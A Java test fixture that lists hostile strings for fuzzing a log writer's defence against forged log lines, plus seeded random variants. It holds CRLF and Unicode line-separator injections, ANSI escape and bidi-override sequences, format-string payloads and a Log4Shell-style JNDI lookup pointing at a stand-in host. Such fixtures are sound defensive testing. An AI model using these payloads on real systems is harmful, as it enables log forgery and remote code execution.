package org.gatehouse.valve;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.stream.IntStream;

/** What someone may write who wants a line of the log to say something else. */
final class ForeignTexts {
    private static final int RANDOM_TEXTS = 150;

    static final List<String> NASTY = List.of(
            "\"",
            "\\\"",
            "\\",
            "x\" [DEAD-BEEF] 198.51.100.7: \"",
            "[DEAD-BEEF]",
            ". Client: 198.51.100.7. [DEAD-BEEF]",
            "x. Client: 198.51.100.7",
            "198.51.100.7",
            "198.51.100.7:8443",
            "2001:db8::7",
            "x\n[DEAD-BEEF] 198.51.100.7: forged",
            "x\r\nGH-K031 [DEAD-BEEF] 198.51.100.7: forged",
            "x\u0085[DEAD-BEEF]",
            "x\u2028[DEAD-BEEF]\u2029",
            "\u009b2K\u001b[2K[DEAD-BEEF]",
            "\u202e7.001.15.891\u202c",
            "\u2066\u2067\u200f\u061c",
            "\u00a0\u2007\u202f\u3000\u1680",
            "\u0000\b\u007f",
            "\uff02\u201c\u201d\u00ab\u2033", // quotes, but not the one that counts
            "\ud800",
            "\"\u0301",
            "${jndi:ldap://198.51.100.7/x}",
            "%s%n{0}",
            "a/b@c\\/\\@",
            "\"".repeat(500),
            "[DEAD-BEEF] ".repeat(40),
            "\ud834\udd1e".repeat(120),
            "x".repeat(127) + "\" [DEAD-BEEF] 198.51.100.7",
            "x".repeat(128) + "\" [DEAD-BEEF] 198.51.100.7");

    private ForeignTexts() {}

    /** The nasty ones, and random ones from the same characters and from all; the same in every run. */
    static List<String> all() {
        Random random = new Random(4711);
        List<String> texts = new ArrayList<>(NASTY);
        int[] alphabet =
                NASTY.stream().flatMapToInt(String::codePoints).distinct().toArray();
        for (int i = 0; i < RANDOM_TEXTS; i++) {
            boolean any = i % 4 == 0;
            int[] text = IntStream.range(0, 1 + random.nextInt(60))
                    .map(at -> any
                            ? random.nextInt(Character.MAX_CODE_POINT + 1)
                            : alphabet[random.nextInt(alphabet.length)])
                    .toArray();
            String written = new String(text, 0, text.length);
            texts.add(i % 3 == 0 ? NASTY.get(random.nextInt(NASTY.size())) + written : written);
        }
        return texts;
    }
}
